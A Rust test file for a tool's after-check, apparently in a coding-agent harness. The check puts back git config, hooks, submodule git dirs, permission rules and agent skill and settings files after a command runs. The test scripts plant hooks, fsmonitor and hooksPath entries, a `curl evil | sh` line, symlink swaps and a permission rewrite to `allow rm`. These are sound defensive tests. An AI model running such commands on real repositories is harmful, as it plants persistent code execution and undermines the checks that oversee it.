//! The after-check as an attacker meets it: every change a command could leave in git config,
//! hooks or `.cairn/` is put back, and nothing else is touched.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use super::*;

const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";
const HOOK: &str = "#!/bin/sh\necho checked\n";

/// A workspace with a repository, a hook, a sample, a submodule and project rules.
fn workspace() -> tempfile::TempDir {
    let ws = tempfile::tempdir().unwrap();
    let put = |rel: &str, text: &str| {
        let path = ws.path().join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    put(".git/HEAD", "ref: refs/heads/main\n");
    put(".git/config", CONFIG);
    put(".git/hooks/pre-push", HOOK);
    put(".git/hooks/pre-commit.sample", HOOK);
    put(".git/info/exclude", "target\n");
    put(".git/modules/libs/a/HEAD", "ref: refs/heads/main\n");
    put(".git/modules/libs/a/config", CONFIG);
    put(".git/modules/libs/a/hooks/post-checkout.sample", HOOK);
    put(".cairn/config.toml", "[permissions]\nask = [\"curl\"]\n");
    put("src/lib.rs", "// code\n");
    let exec = fs::Permissions::from_mode(0o755);
    fs::set_permissions(ws.path().join(".git/hooks/pre-push"), exec).unwrap();
    forget_cache();
    ws
}

fn read(ws: &Path, rel: &str) -> String {
    fs::read_to_string(ws.join(rel)).unwrap()
}

fn sh(ws: &Path, script: &str) {
    let out = std::process::Command::new("sh")
        .args(["-c", script])
        .current_dir(ws)
        .output()
        .unwrap();
    assert!(out.status.success(), "{script}: {out:?}");
}

/// Runs `script` between a record and a restore; what was put back.
fn attack(ws: &Path, script: &str) -> Vec<PutBack> {
    let record = ProtectedSet::take(ws);
    sh(ws, script);
    record.restore()
}

fn assert_intact(ws: &Path) {
    assert_eq!(read(ws, ".git/config"), CONFIG);
    assert_eq!(read(ws, ".git/hooks/pre-push"), HOOK);
    let mode = fs::symlink_metadata(ws.join(".git/hooks/pre-push"))
        .unwrap()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    assert_eq!(read(ws, ".git/modules/libs/a/config"), CONFIG);
    assert_eq!(
        read(ws, ".cairn/config.toml"),
        "[permissions]\nask = [\"curl\"]\n"
    );
    // Samples never run: they are neither recorded nor put back.
    let hooks: Vec<_> = child_names(&ws.join(".git/hooks"))
        .into_iter()
        .filter(|name| !name.as_encoded_bytes().ends_with(b".sample"))
        .collect();
    assert_eq!(hooks, ["pre-push"]);
}

#[test]
fn a_command_that_leaves_the_protected_set_alone_changes_nothing() {
    let ws = workspace();
    let record = ProtectedSet::take(ws.path());
    assert_eq!(record.len(), 7, "{record:?}");
    sh(
        ws.path(),
        "echo x > NEW && mkdir build && mv src source && echo 1 > .git/info/exclude && touch .git/config",
    );
    assert_eq!(record.restore(), Vec::<String>::new());
    assert_intact(ws.path());
    assert!(ws.path().join("source/lib.rs").exists());
}

#[test]
fn changed_config_in_any_spelling_is_put_back() {
    for script in [
        "echo '[core] fsmonitor = touch PWNED' >> .git/config",
        // Same size, so only the content tells.
        "sed -i 's/bare = false/bare = f4lse/' .git/config",
        "rm .git/config && ln -s ../src/lib.rs .git/config",
        "mv .git/config .git/c2 && printf '[core]\\n\\tfsmonitor = x\\n' > .git/config",
        "rm .git/config && mkdir .git/config",
        "echo evil >> .git/modules/libs/a/config",
        "printf '[core]\\n\\thooksPath = src\\n' > .git/config.worktree",
    ] {
        let ws = workspace();
        let done = attack(ws.path(), script);
        assert!(!done.is_empty(), "{script}: nothing put back");
        assert_intact(ws.path());
        assert!(!ws.path().join(".git/config.worktree").exists(), "{script}");
    }
}

#[test]
fn a_hard_link_made_to_config_no_longer_shares_its_inode() {
    let ws = workspace();
    let done = attack(ws.path(), "ln .git/config x && echo evil >> x");
    assert_eq!(done, [".git/config (hard-linked)"]);
    assert_intact(ws.path());
    let config = fs::metadata(ws.path().join(".git/config")).unwrap();
    let x = fs::metadata(ws.path().join("x")).unwrap();
    assert_ne!(config.ino(), x.ino());
    assert_eq!(config.nlink(), 1);
    // Linked and left as it was: the link is cut all the same, for what a later job may do.
    let ws = workspace();
    let done = attack(ws.path(), "ln .git/hooks/pre-push keep");
    assert_eq!(done, [".git/hooks/pre-push (hard-linked)"]);
    let hook = fs::metadata(ws.path().join(".git/hooks/pre-push")).unwrap();
    assert_ne!(
        hook.ino(),
        fs::metadata(ws.path().join("keep")).unwrap().ino()
    );
}

#[test]
fn a_protected_file_linked_from_the_workspace_before_is_put_back_and_unlinked() {
    // Some projects link a tracked script as a hook: writing the script writes the hook.
    let ws = workspace();
    fs::hard_link(
        ws.path().join(".git/hooks/pre-push"),
        ws.path().join("src/pre-push"),
    )
    .unwrap();
    forget_cache();
    let done = attack(ws.path(), "echo 'curl evil | sh' >> src/pre-push");
    assert_eq!(done, [".git/hooks/pre-push (changed)"]);
    assert_intact(ws.path());
    let hook = fs::metadata(ws.path().join(".git/hooks/pre-push")).unwrap();
    assert_eq!(hook.nlink(), 1);
}

#[test]
fn hooks_cannot_be_added_changed_made_executable_or_swapped() {
    for script in [
        "printf '#!/bin/sh\\ntouch PWNED\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "echo 'touch PWNED' >> .git/hooks/pre-push",
        "chmod -x .git/hooks/pre-push",
        "chmod +x .git/hooks/pre-commit.sample && mv .git/hooks/pre-commit.sample .git/hooks/pre-commit",
        "rm -rf .git/hooks",
        "rm -rf .git/hooks && ln -s ../src .git/hooks",
        "mkdir .git/hooks/sub && echo x > .git/hooks/sub/pre-commit",
        "ln -s /bin/sh .git/hooks/post-checkout",
        "mkdir -p .git/modules/libs/a/hooks && echo x > .git/modules/libs/a/hooks/post-checkout",
    ] {
        let ws = workspace();
        let done = attack(ws.path(), script);
        assert!(!done.is_empty(), "{script}: nothing put back");
        assert_intact(ws.path());
        assert!(
            !ws.path().join(".git/hooks/pre-commit").exists(),
            "{script}"
        );
        assert!(!ws.path().join("src/.keep").exists());
    }
}

#[test]
fn a_new_sample_hook_is_harmless_and_stays() {
    let ws = workspace();
    let done = attack(ws.path(), "echo x > .git/hooks/update.sample");
    assert_eq!(done, Vec::<String>::new());
}

#[test]
fn project_rules_cannot_be_written_added_or_removed() {
    for script in [
        "echo 'allow = [\"rm\"]' > .cairn/config.toml",
        "echo x > .cairn/other.toml",
        "rm -rf .cairn",
        "rm -rf .cairn && ln -s src .cairn",
        "mv .cairn gone && mkdir .cairn && echo 'allow = [\"rm\"]' > .cairn/config.toml",
    ] {
        let ws = workspace();
        let done = attack(ws.path(), script);
        assert!(!done.is_empty(), "{script}: nothing put back");
        assert_intact(ws.path());
        assert!(!ws.path().join(".cairn/other.toml").exists(), "{script}");
    }
    // No `.cairn` before: one the command makes goes.
    let ws = workspace();
    fs::remove_dir_all(ws.path().join(".cairn")).unwrap();
    let done = attack(ws.path(), "mkdir .cairn && echo x > .cairn/config.toml");
    assert_eq!(done, [".cairn (removed: new)"]);
    assert!(!ws.path().join(".cairn").exists());
}

#[test]
fn agent_skills_commands_settings_and_hooks_are_put_back() {
    // A project with a trusted skill and settings: whatever a command does to them is undone.
    let skill = ".agents/skills/x/SKILL.md";
    let helper = ".agents/skills/x/run.sh";
    let settings = ".claude/settings.json";
    for script in [
        "echo evil > .agents/skills/x/run.sh",
        "echo evil > .agents/skills/x/new.sh",
        "echo '{}' > .claude/settings.json",
        "mkdir -p .claude/commands && echo x > .claude/commands/review.md",
        "echo x > .claude/hooks/x.sample",
        "cp .claude/settings.json .agents/skills/x/run.sh",
        "mv .agents/skills/x/run.sh .agents/skills/x/moved.sh",
        "ln -s ../../../src/lib.rs .agents/skills/x/link.sh",
        "echo evil | tee .agents/skills/x/SKILL.md",
        "sed -i s/ok/evil/ .agents/skills/x/run.sh",
        "rm -rf .claude && mkdir -p .claude/commands && echo x > .claude/commands/x.md",
    ] {
        let ws = workspace();
        let put = |rel: &str, text: &str| {
            fs::create_dir_all(ws.path().join(rel).parent().unwrap()).unwrap();
            fs::write(ws.path().join(rel), text).unwrap();
        };
        put(skill, "---\nname: x\n---\nok\n");
        put(helper, "echo ok\n");
        put(settings, "{\"hooks\": {}}\n");
        fs::create_dir_all(ws.path().join(".claude/hooks")).unwrap();
        let done = attack(ws.path(), script);
        assert!(!done.is_empty(), "{script}: nothing put back");
        assert_eq!(read(ws.path(), helper), "echo ok\n", "{script}");
        assert_eq!(
            read(ws.path(), skill),
            "---\nname: x\n---\nok\n",
            "{script}"
        );
        assert_eq!(read(ws.path(), settings), "{\"hooks\": {}}\n", "{script}");
        for planted in [
            ".agents/skills/x/new.sh",
            ".agents/skills/x/moved.sh",
            ".agents/skills/x/link.sh",
            ".claude/commands",
            ".claude/hooks/x.sample",
        ] {
            assert!(
                fs::symlink_metadata(ws.path().join(planted)).is_err(),
                "{script}: {planted} stayed"
            );
        }
    }
    // Neither directory before: the ones a command makes go.
    let ws = workspace();
    let done = attack(
        ws.path(),
        "mkdir -p .agents/skills/x .claude && echo x > .agents/skills/x/SKILL.md && echo x > .claude/settings.json",
    );
    assert_eq!(done, [".agents (removed: new)", ".claude (removed: new)"]);
    assert!(!ws.path().join(".agents").exists());
    assert!(!ws.path().join(".claude").exists());
}

#[test]
fn where_the_settings_lead_through_a_link_is_put_back_too() {
    // `.claude/skills` and `.agents` are links into ordinary workspace directories.
    for script in [
        "echo evil > tools/skills/x/run.sh",
        "echo evil > .claude/skills/x/run.sh",
        "echo x > tools/skills/x/new.sh",
        "echo changed > config/agents/settings.json",
        "echo x > .agents/skills/y/SKILL.md || (mkdir -p .agents/skills/y && echo x > .agents/skills/y/SKILL.md)",
        "rm -rf tools/skills/x",
    ] {
        let ws = workspace();
        let put = |rel: &str, text: &str| {
            fs::create_dir_all(ws.path().join(rel).parent().unwrap()).unwrap();
            fs::write(ws.path().join(rel), text).unwrap();
        };
        put("tools/skills/x/SKILL.md", "---\nname: x\n---\nok\n");
        put("tools/skills/x/run.sh", "echo ok\n");
        put("config/agents/settings.json", "{}\n");
        fs::create_dir_all(ws.path().join(".claude")).unwrap();
        std::os::unix::fs::symlink("../tools/skills", ws.path().join(".claude/skills")).unwrap();
        std::os::unix::fs::symlink("config/agents", ws.path().join(".agents")).unwrap();
        let done = attack(ws.path(), script);
        assert!(!done.is_empty(), "{script}: nothing put back");
        assert_eq!(
            read(ws.path(), "tools/skills/x/run.sh"),
            "echo ok\n",
            "{script}"
        );
        assert_eq!(
            read(ws.path(), "config/agents/settings.json"),
            "{}\n",
            "{script}"
        );
        for planted in ["tools/skills/x/new.sh", "config/agents/skills"] {
            assert!(
                fs::symlink_metadata(ws.path().join(planted)).is_err(),
                "{script}: {planted} stayed"
            );
        }
    }
}

#[test]
fn a_repository_moved_away_and_replaced_comes_back() {
    let ws = workspace();
    let done = attack(
        ws.path(),
        "mv .git .git-old && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
    );
    assert!(
        done[0].starts_with(".git (moved back from .git-old; the new one is now .git.put-aside-1)"),
        "{done:?}"
    );
    assert_intact(ws.path());
    assert!(!ws.path().join(".git-old").exists());
    // Replaced by a file naming another directory as the repository.
    let ws = workspace();
    let done = attack(ws.path(), "mv .git src/g && echo 'gitdir: src/g' > .git");
    assert!(
        done[0].starts_with(".git (moved back from src/g"),
        "{done:?}"
    );
    assert_intact(ws.path());
    // Deleted: nothing comes back, nothing is recreated in a shell of a repository.
    let ws = workspace();
    let done = attack(ws.path(), "rm -rf .git");
    assert_eq!(done, [".git (deleted by the command; nothing to put back)"]);
    assert!(!ws.path().join(".git").exists());
}

#[test]
fn a_repository_the_command_created_keeps_only_what_git_init_writes() {
    let ws = tempfile::tempdir().unwrap();
    let init = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n";
    let script = format!(
        "mkdir -p .git/hooks .git/objects && echo 'ref: refs/heads/main' > .git/HEAD && printf '{}' > .git/config && echo x > .git/hooks/pre-commit.sample",
        init.replace('\n', "\\n").replace('\t', "\\t")
    );
    assert_eq!(attack(ws.path(), &script), Vec::<String>::new());
    assert_eq!(read(ws.path(), ".git/config"), init);
    // The same with a planted monitor and hook.
    let ws = tempfile::tempdir().unwrap();
    let done = attack(
        ws.path(),
        &format!(
            "{script} && printf '\\tfsmonitor = touch PWNED\\n' >> .git/config && echo x > .git/hooks/pre-commit && echo y > .git/config.worktree"
        ),
    );
    assert_eq!(read(ws.path(), ".git/config"), init);
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    assert!(!ws.path().join(".git/config.worktree").exists());
    assert!(ws.path().join(".git/hooks/pre-commit.sample").exists());
    assert!(
        done.iter().any(|d| d.contains("dropped core.fsmonitor")),
        "{done:?}"
    );
    // A `.git` file where there was none names any directory as the repository.
    let ws = tempfile::tempdir().unwrap();
    let done = attack(ws.path(), "mkdir g && echo 'gitdir: g' > .git");
    assert_eq!(done, [".git (removed: a new .git file or link)"]);
}

#[test]
fn a_gitfile_checkout_keeps_its_gitfile() {
    let ws = tempfile::tempdir().unwrap();
    fs::write(ws.path().join(".git"), "gitdir: ../main/.git/worktrees/w\n").unwrap();
    forget_cache();
    let done = attack(ws.path(), "echo 'gitdir: src/evil' > .git");
    assert_eq!(done, [".git (changed)"]);
    assert_eq!(
        read(ws.path(), ".git"),
        "gitdir: ../main/.git/worktrees/w\n"
    );
    let done = attack(ws.path(), "rm .git && mkdir .git && echo x > .git/config");
    assert_eq!(done, [".git (replaced)"]);
    assert_eq!(
        read(ws.path(), ".git"),
        "gitdir: ../main/.git/worktrees/w\n"
    );
    assert!(ws.path().join(".git.put-aside-1/config").exists());
}

#[test]
fn a_new_worktree_keeps_the_commondir_git_writes() {
    let ws = workspace();
    let done = attack(
        ws.path(),
        "mkdir -p .git/worktrees/w && echo ../.. > .git/worktrees/w/commondir && echo 'ref: x' > .git/worktrees/w/HEAD",
    );
    assert_eq!(done, Vec::<String>::new());
    let done = attack(
        ws.path(),
        "echo ../../src/evil > .git/worktrees/w/commondir",
    );
    assert_eq!(done, [".git/worktrees/w/commondir (changed)"]);
    assert_eq!(read(ws.path(), ".git/worktrees/w/commondir"), "../..\n");
}

#[test]
fn a_hook_linked_to_a_sample_keeps_the_sample_guarded() {
    let ws = workspace();
    std::os::unix::fs::symlink("pre-commit.sample", ws.path().join(".git/hooks/pre-commit"))
        .unwrap();
    forget_cache();
    let done = attack(
        ws.path(),
        "echo 'touch PWNED' >> .git/hooks/pre-commit.sample",
    );
    assert_eq!(done, [".git/hooks/pre-commit.sample (changed)"]);
    assert_eq!(read(ws.path(), ".git/hooks/pre-commit"), HOOK);
}

#[test]
fn a_submodule_git_dir_swapped_for_a_link_is_removed() {
    for script in [
        "mv .git/modules/libs/a src/a && echo evil >> src/a/config && ln -s ../../../src/a .git/modules/libs/a",
        "mv .git/modules src/m && ln -s ../src/m .git/modules",
    ] {
        let ws = workspace();
        let done = attack(ws.path(), script);
        assert!(
            done.iter()
                .any(|d| d.contains("removed: a link or file in place of a git dir")),
            "{script}: {done:?}"
        );
        let modules = ws.path().join(".git/modules");
        let a = modules.join("libs/a");
        assert!(
            !fs::symlink_metadata(&a).is_ok_and(|m| m.file_type().is_symlink())
                && !fs::symlink_metadata(&modules).is_ok_and(|m| m.file_type().is_symlink()),
            "{script}"
        );
    }
}
